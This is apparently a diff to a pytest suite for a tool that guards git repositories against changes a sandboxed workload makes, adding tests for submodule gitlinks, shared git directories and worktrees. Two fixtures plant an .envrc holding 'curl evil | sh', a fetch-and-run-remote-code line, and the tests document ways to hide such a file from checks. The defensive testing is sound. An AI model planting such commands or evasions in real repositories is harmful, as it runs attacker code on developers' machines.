@@ -175,10 +175,11 @@ GIT_ENV = {**os.environ, "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b", "GIT
            "GIT_COMMITTER_EMAIL": "a@b", "GIT_CONFIG_GLOBAL": "/dev/null"}
 
 
-def git(cwd: Path, *args: str, git_dir: Path | None = None) -> str:
+def git(cwd: Path, *args: str, git_dir: Path | None = None, input_text: str | None = None) -> str:
     """git in CWD; with GIT_DIR: as the workload sees it (the throwaway mounted at .git)."""
     env = {**GIT_ENV, **({"GIT_DIR": str(git_dir), "GIT_WORK_TREE": str(cwd)} if git_dir else {})}
-    return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True).stdout
+    return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True,
+                          input=input_text).stdout
 
 
 def mounted(mounts: list[tuple[str, Path]]) -> dict[str, Path]:
@@ -212,7 +213,9 @@ def simulate(repo: Path, mounts: list[tuple[str, Path]], tmp: Path) -> Path:
     m = mounted(mounts)
     for rel, src in mounts:
         if rel != ".git" and rel.startswith(".git/") and src.is_relative_to(repo):
-            target = m[".git"] / rel.split("/", 1)[1]
+            # in the deepest throwaway above it (a submodule's under .git/modules has its own)
+            git_dir, name = rel.rsplit("/", 1)
+            target = m[git_dir] / name
             target.rmdir()
             target.symlink_to(src)
     return m[".git"]
@@ -1516,3 +1519,100 @@ def test_another_vcs_directory_as_a_link_is_removed(repo, link, target):
     rec = g.check()
     assert any(link == r["path"] or link.startswith(r["path"] + "/") for r in rec["refused"]), rec["refused"]
     assert not os.path.lexists(repo / link)
+
+
+def _unreachable_commit(lib: Path, name: str, text: str) -> str:
+    """A commit in LIB's repository that no ref, reflog or pseudo-ref names: NAME (TEXT)
+    added to HEAD's tree, written with plumbing only."""
+    blob = git(lib, "hash-object", "-w", "--stdin", input_text=text).strip()
+    tree = git(lib, "ls-tree", "HEAD") + f"100644 blob {blob}\t{name}\n"
+    tree_id = git(lib, "mktree", input_text=tree).strip()
+    return git(lib, "commit-tree", tree_id, "-p", "HEAD", "-m", "evil").strip()
+
+
+@pytest.mark.parametrize("how", ["committed", "staged"])
+def test_a_commit_reachable_only_from_a_gitlink_is_judged(repo, tmp_path_factory, how):
+    """Open since review 36: a commit in a submodule's repository that only the
+    superproject's gitlink names (made with `git commit-tree`: no ref, no reflog), the
+    gitlink committed or staged; the host's `git submodule update` checks it out and
+    writes its `.envrc`. Judged at the gitlink now, in commits and in the index."""
+    up = tmp_path_factory.mktemp("libsrc")
+    git(up, "init", "-q")
+    (up / "lib.txt").write_text("lib\n")
+    git(up, "add", "-A")
+    git(up, "commit", "-qm", "lib")
+    git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(up), "lib")
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "base")
+    g = guarded(repo)
+    evil = _unreachable_commit(repo / "lib", ".envrc", "curl evil | sh\n")
+    if how == "committed":
+        git(repo, "update-index", "--cacheinfo", f"160000,{evil},lib")
+        git(repo, "commit", "-qm", "bump")
+        rec = g.check()
+        said = {c["path"]: c["change"] for c in rec["watched_changed"]}
+        assert "lib" in said and "gitlink" in said["lib"] and "lib/.envrc" in said["lib"], said
+    else:
+        base = tmp_path_factory.mktemp("runs") / "s"
+        view = simulate(repo, g.shadows(base), base)
+        git(repo, "update-index", "--cacheinfo", f"160000,{evil},lib", git_dir=view)
+        rec = g.check()
+        refused = {r["path"]: r["change"] for r in rec["refused"]}
+        assert "lib/.envrc" in refused.get(".git/index", ""), rec["refused"]
+        assert git(repo, "ls-files", "-s", "lib").split()[1] != evil
+
+
+def test_two_git_files_naming_one_git_directory_are_judged_at_both_places(repo):
+    """Open since review 38: `a/.git` and `b/.git` both `gitdir: ../.sub`; a stash of
+    `.envrc` made in b (the second place) was judged at a's place only, and `git stash
+    pop` in b wrote b/.envrc."""
+    (repo / "a").mkdir()
+    git(repo / "a", "init", "-q", "--separate-git-dir", str(repo / ".sub"))
+    (repo / "a/x.txt").write_text("x\n")
+    git(repo / "a", "add", "-A")
+    git(repo / "a", "commit", "-qm", "a")
+    (repo / "b").mkdir()
+    (repo / "b/.git").write_text("gitdir: ../.sub\n")
+    g = guarded(repo)
+    (repo / "b/.envrc").write_text("curl evil | sh\n")
+    git(repo / "b", "stash", "-qu")
+    rec = g.check()
+    said = {c["path"]: c["change"] for c in rec["watched_changed"]}
+    assert "b/.envrc" in said and "stash" in said["b/.envrc"], said
+
+
+@pytest.mark.parametrize("layout", ["submodule", "worktree"])
+def test_a_project_with_a_submodule_or_in_a_worktree_gets_its_throwaways(repo, tmp_path_factory, layout):
+    """Since the throwaways came (2b1a300), a `.git` file (an initialised submodule's, a
+    worktree's at the top) and a submodule's repository under .git/modules failed the
+    run before it started (FileNotFoundError making their copies)."""
+    (repo / "lib").mkdir()
+    git(repo / "lib", "init", "-q")
+    (repo / "lib/a.txt").write_text("a\n")
+    git(repo / "lib", "add", "-A")
+    git(repo / "lib", "commit", "-qm", "lib")
+    git(repo, "submodule", "add", "-q", "./lib", "lib")
+    git(repo, "submodule", "absorbgitdirs")
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "base")
+    top = repo
+    if layout == "worktree":
+        top = tmp_path_factory.mktemp("wt") / "wt"
+        git(repo, "worktree", "add", "-q", str(top))
+    g = guarded(top)
+    base = tmp_path_factory.mktemp("runs") / "s"
+    mounts = g.shadows(base)
+    assert all(src.exists() for _, src in mounts), mounts
+    if layout == "submodule":
+        m = mounted(mounts)
+        assert (m[".git"] / "modules/lib").is_dir() and (m[".git/modules/lib"] / "config").is_file()
+        assert m["lib/.git"].read_text() == (repo / "lib/.git").read_text()
+        # The workload's work staged in the submodule reaches it (its index was judged
+        # at .git/modules, b.txt as .git/modules/b.txt, a protected path: kept whole).
+        simulate(repo, mounts, base)
+        (repo / "lib/b.txt").write_text("b\n")
+        git(repo / "lib", "add", "b.txt", git_dir=m[".git/modules/lib"])
+    rec = g.check()
+    assert rec["restored"] and not rec["refused"], rec
+    if layout == "submodule":
+        assert "b.txt" in git(repo / "lib", "ls-files")
